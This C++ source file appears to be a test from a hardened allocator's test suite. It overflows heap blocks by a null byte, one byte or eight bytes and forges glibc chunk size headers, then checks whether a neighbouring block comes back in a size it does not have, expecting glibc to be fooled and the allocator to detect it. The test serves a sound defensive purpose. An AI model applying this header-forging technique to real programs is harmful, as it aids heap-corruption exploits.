// attack: go beyond a block by a terminating zero, by a byte or by eight bytes, in one process for every
// attack: size class: one class without a header to damage is enough
// fault: overflow
// cases: zero one eight
// range: tiny
// glibc: * succeeds
// hakmem: fast * corrupt-header@at-free
// hakmem: * * overflow@at-free
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "row.h"

namespace {

constexpr size_t kForgedBytes = 512;

/// Damages what is behind `left`. Returns the size that glibc takes `right` for then.
size_t overflow(const char* kind, const attack::Row& row, const attack::Pair& pair) {
  const ptrdiff_t end = row.end_of(pair.left);
  const size_t chunk_bytes = row.stride_bytes();
  if (std::strcmp(kind, "zero") == 0) {
    attack::damage_byte(pair.left, end, 0);
    return chunk_bytes & ~size_t{255};
  }
  if (std::strcmp(kind, "one") == 0) {
    attack::damage_byte(pair.left, end, static_cast<uint8_t>((chunk_bytes + 32) | attack::kPreviousInUse));
    return (chunk_bytes & ~size_t{255}) | ((chunk_bytes + 32) & 255);
  }
  if (std::strcmp(kind, "eight") != 0) attack::broken("unknown kind");
  attack::poke<size_t>(pair.left, end, kForgedBytes | attack::kPreviousInUse);
  return kForgedBytes;
}

/// Whether `right` comes back in a size that it has not.
bool freed_as_another(const char* kind, size_t size_bytes) {
  const attack::Row row(size_bytes);
  const attack::Pair pair = row.neighbours();
  attack::begin_misuse();
  const size_t believed = overflow(kind, row, pair);
  attack::end_misuse();
  attack::begin_free();
  if (attack::against_hakmem()) attack::give(pair.left);
  attack::give(pair.right);
  attack::end_free();
  return believed > 24 && believed != row.stride_bytes() && attack::take(believed - 8) == pair.right;
}

size_t next_size(size_t size_bytes) { return size_bytes < 1024 ? size_bytes + 16 : size_bytes + size_bytes / 16; }

}  // namespace

int main(int argc, char** argv) {
  const char* kind = attack::word_argument(argc, argv);
  constexpr size_t kLast = 20000;
  for (size_t size_bytes = 24; size_bytes < kLast; size_bytes = next_size(size_bytes)) {
    const pid_t pid = fork();
    if (pid == 0) _exit(freed_as_another(kind, size_bytes) ? 0 : 3);
    int status = 0;
    if (pid < 0 || waitpid(pid, &status, 0) != pid) attack::broken("fork");
    if (WIFSIGNALED(status)) continue;
    if (WEXITSTATUS(status) == 0) attack::succeeded("a neighbour was handed out in a size it has not");
    if (attack::against_hakmem()) attack::failed("a class in which nothing is noticed");
  }
  attack::judge(freed_as_another(kind, kLast), "a neighbour was handed out in a size it has not");
}
